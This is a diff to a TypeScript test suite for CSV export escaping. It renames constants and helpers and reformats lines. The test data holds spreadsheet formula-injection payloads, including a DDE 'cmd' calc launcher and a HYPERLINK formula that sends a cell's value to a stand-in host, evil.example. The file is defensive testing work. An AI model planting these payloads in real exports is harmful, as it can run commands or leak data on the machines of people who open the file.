@@ -17,14 +17,16 @@ const FORMULA_PREFIXES = [
   '\uFE63',
   '\uFE6B',
 ];
-const BEFORE = [
+const LEADING_TEXTS = [
   ...['', ' ', '   ', '\u00A0', '\uFEFF', '\u200B', '\u200D', '\u2060', '\u00AD', '\v', '\f', '\t', '\r', '\n', '\r\n'],
   ...['"', "'", "''", '\u201C', '\u00AB', ' "', '\u2003\u3000', '\u202E', '\u0001', '\u2800', '\u3164'],
   ...['x;', 'x; ', 'x;;', 'x\t', 'x\n', 'x\r', 'a "b";', 'x;\uFEFF"', ';', ';\n'],
 ];
-const AFTER = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
+const FORMULA_BODIES = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
 const PAYLOADS = FORMULA_PREFIXES.flatMap((start, at) =>
-  BEFORE.map((before, index) => `${before}${start}${AFTER[(at + index) % AFTER.length] ?? ''}`),
+  LEADING_TEXTS.map(
+    (before, index) => `${before}${start}${FORMULA_BODIES[(at + index) % FORMULA_BODIES.length] ?? ''}`,
+  ),
 );
 
 /** The cells of a text as a spreadsheet parses it: quotes count only at the beginning of a cell. */
@@ -54,7 +56,8 @@ const LEADING_BLANKS = /^[\s\p{Z}\p{Cc}\p{Cf}\u2800\u3164"]+/u;
 /** Whether a spreadsheet could take a cell for a formula, also behind spaces and double quotes. */
 const isLive = (cell: string) =>
   FORMULA_PREFIXES.includes(cell.replace(LEADING_BLANKS, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
-const liveCellsIn = (line: string) => [',', ';', '\t'].flatMap((separator) => cellsOf(line, separator).filter(isLive));
+const findLiveCells = (line: string) =>
+  [',', ';', '\t'].flatMap((separator) => cellsOf(line, separator).filter(isLive));
 
 /** Restores the exported text: of the apostrophes before a formula, the first one was added. */
 function restoreCell(cell: string): string {
@@ -84,15 +87,15 @@ describe('a row', () => {
 
 it('leaves no payload active in any cell, with commas, semicolons and tabs as separators', () => {
   const livePayloads = PAYLOADS.flatMap((payload) => [
-    ...liveCellsIn(csvRow([payload, 'x'])),
-    ...liveCellsIn(csvRow(['x', payload])),
-    ...liveCellsIn(csvRow(['a "quoted" one', payload, payload])),
+    ...findLiveCells(csvRow([payload, 'x'])),
+    ...findLiveCells(csvRow(['x', payload])),
+    ...findLiveCells(csvRow(['a "quoted" one', payload, payload])),
   ]);
   expect(livePayloads).toEqual([]);
   // Positive control: without the escaping, every payload is active in some spreadsheet.
   const unescapedCell = (payload: string) => `x,"${payload.replaceAll('"', '""')}"`;
   const missedPayloads = PAYLOADS.filter(
-    (payload) => liveCellsIn(unescapedCell(payload)).length === 0 && !/^['\u201C\u00AB]/.test(payload),
+    (payload) => findLiveCells(unescapedCell(payload)).length === 0 && !/^['\u201C\u00AB]/.test(payload),
   );
   expect(missedPayloads).toEqual([]);
   reportMeasurement(
@@ -102,7 +105,16 @@ it('leaves no payload active in any cell, with commas, semicolons and tabs as se
 });
 
 it('writes every text so that it can be restored', () => {
-  const alphabet = [...FORMULA_PREFIXES, ...BEFORE.filter((one) => one !== ''), ';', ',', '1', 'a', '.', '\u00E9'];
+  const alphabet = [
+    ...FORMULA_PREFIXES,
+    ...LEADING_TEXTS.filter((one) => one !== ''),
+    ';',
+    ',',
+    '1',
+    'a',
+    '.',
+    '\u00E9',
+  ];
   const text = fc.array(fc.constantFrom(...alphabet), { maxLength: 8 }).map((parts) => parts.join(''));
   let read = 0;
   const check = (cells: readonly string[]) => {
